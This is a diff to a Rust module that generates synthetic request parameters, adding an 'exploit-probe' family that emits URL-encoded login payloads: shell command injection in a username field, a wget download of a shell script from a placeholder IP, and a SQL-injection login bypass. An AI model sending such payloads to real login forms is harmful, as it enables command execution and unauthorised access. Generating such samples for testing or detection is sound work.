@@ -19,6 +19,7 @@ pub const FAMILIES: &[&str] = &[
     "csrf",
     "csrf-framework",
     "csrf-prestashop",
+    "exploit-probe",
     "replay-key",
     "number",
     "slug",
@@ -43,6 +44,29 @@ fn csrf_by_framework(rng: &mut Rng) -> String {
         5 => format!("user_token={}", rng.string(HEX, 32)),
         6 => format!("{}=1", rng.string(HEX, 32)),
         _ => format!("_csrf={}", uuid(rng)),
+    }
+}
+
+/// An exploit kit's login probe: a command injected into a sibling of the password (a router's
+/// `username=admin';ls #`), whose password is whatever the kit sends.
+fn exploit_probe(rng: &mut Rng) -> String {
+    let len = 6 + rng.below(8);
+    let password = rng.string(ALNUM, len);
+    match rng.below(3) {
+        0 => format!(
+            "username={}%27%3B{}%20%23&password={password}",
+            rng.pick(&["admin", "root", "support"]),
+            rng.pick(&["ls", "id", "uname%20-a"])
+        ),
+        1 => format!(
+            "user=x%3Bwget%20http%3A%2F%2F198.51.100.{}%2F{}.sh&pass={password}",
+            rng.below(250),
+            rng.string(LOWER_ALNUM, 4)
+        ),
+        _ => format!(
+            "login=%27%20or%20%27%27%3D%27&pwd={password}&submit={}",
+            rng.pick(&["Login", "1"])
+        ),
     }
 }
 
@@ -275,6 +299,7 @@ pub fn param(rng: &mut Rng) -> (&'static str, String) {
             .to_string(),
         "csrf-framework" => csrf_by_framework(rng),
         "csrf-prestashop" => csrf_prestashop(rng),
+        "exploit-probe" => exploit_probe(rng),
         "replay-key" => format!("key={}{}", uuid(rng), rng.string(ALNUM, 20)),
         "number" => number(rng),
         "slug" => slug(rng),
